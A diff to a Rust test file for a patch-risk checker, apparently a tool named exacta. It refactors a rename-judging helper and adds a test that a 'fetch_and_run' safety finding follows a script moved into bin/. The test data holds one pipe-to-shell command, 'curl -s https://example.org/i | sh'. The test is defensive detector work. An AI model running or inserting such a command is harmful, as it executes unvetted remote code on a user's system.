@@ -11,9 +11,9 @@ fn branches() -> String {
     format!("pub fn pick(n: u32) -> u32 {{\n{}\n    0\n}}\n", arms.join("\n"))
 }
 
-/// What a rename is judged as: the points of each factor, and the report.
-fn judged(from: &str, to: &str, edit: bool) -> (Vec<(String, u64)>, Value) {
-    let project = Project::of(&[(from, &branches())]);
+/// What a rename of `text` to `edited` is judged as: the points of each factor, and the report.
+fn judged(from: &str, to: &str, text: &str, edited: &str) -> (Vec<(String, u64)>, Value) {
+    let project = Project::of(&[(from, text)]);
     let tree = || {
         project.git(&["add", "-A"]);
         String::from_utf8(project.git(&["write-tree"])).unwrap().trim().to_owned()
@@ -24,12 +24,10 @@ fn judged(from: &str, to: &str, edit: bool) -> (Vec<(String, u64)>, Value) {
         std::fs::create_dir_all(project.path().join(folder)).unwrap();
     }
     project.git(&["mv", from, to]);
-    if edit {
-        project.write(to, branches().replace("return 7;", "return 77;"));
-    }
+    project.write(to, edited);
     let patch = project.git(&["diff", "-M", &before, &tree()]);
     project.git(&["mv", to, from]);
-    project.write(from, branches());
+    project.write(from, text);
     let said = project.exacta_with(&["check", "--patch", "-", "--json"], &patch);
     let report = said.json();
     let factors = report["risk"]["factors"].as_array().unwrap().iter();
@@ -45,7 +43,7 @@ fn judged(from: &str, to: &str, edit: bool) -> (Vec<(String, u64)>, Value) {
 
 #[test]
 fn a_pure_rename_is_no_removal_and_nothing_new() {
-    let (points, report) = judged("src/a.rs", "src/net/b.rs", false);
+    let (points, report) = judged("src/a.rs", "src/net/b.rs", &branches(), &branches());
     let scope = [("File operations".to_owned(), 10), ("Refactoring scope".to_owned(), 5)];
     assert_eq!(points, scope);
     assert_eq!(report["files"][1]["renamed_from"], "src/a.rs");
@@ -54,15 +52,29 @@ fn a_pure_rename_is_no_removal_and_nothing_new() {
 
 #[test]
 fn a_rename_with_an_edit_is_judged_by_the_edit() {
-    let (points, _) = judged("src/a.rs", "src/b.rs", true);
+    let edited = branches().replace("return 7;", "return 77;");
+    let (points, _) = judged("src/a.rs", "src/b.rs", &branches(), &edited);
     let names: Vec<&str> = points.iter().map(|(name, _)| name.as_str()).collect();
     assert_eq!(names, ["File operations", "Refactoring scope", "Code complexity"]);
 }
 
 #[test]
 fn a_rename_out_of_the_sources_is_a_removal() {
-    let (points, _) = judged("src/a.rs", "old/a.txt", false);
+    let (points, _) = judged("src/a.rs", "old/a.txt", &branches(), &branches());
     assert!(points.contains(&("Breaking changes".to_owned(), 8)), "{points:?}");
-    let (points, _) = judged("src/a.rs", "src/internal/a.rs", false);
+    let (points, _) = judged("src/a.rs", "src/internal/a.rs", &branches(), &branches());
     assert!(points.contains(&("Breaking changes".to_owned(), 8)), "{points:?}");
+}
+
+#[test]
+fn what_moves_to_another_folder_brings_its_dangers_along() {
+    let fetched = "#!/bin/sh\ncurl -s https://example.org/i | sh\n";
+    let told = |from: &str, to: &str| {
+        let report = judged(from, to, fetched, fetched).1;
+        report["quality"]["dimensions"]["safety"]["findings"].to_string()
+    };
+    let danger = "fetch_and_run";
+    assert!(!told("docs/install.sh", "docs/setup.sh").contains(danger));
+    let moved = told("docs/install.sh", "bin/install.sh");
+    assert!(moved.contains(danger), "{moved}");
 }
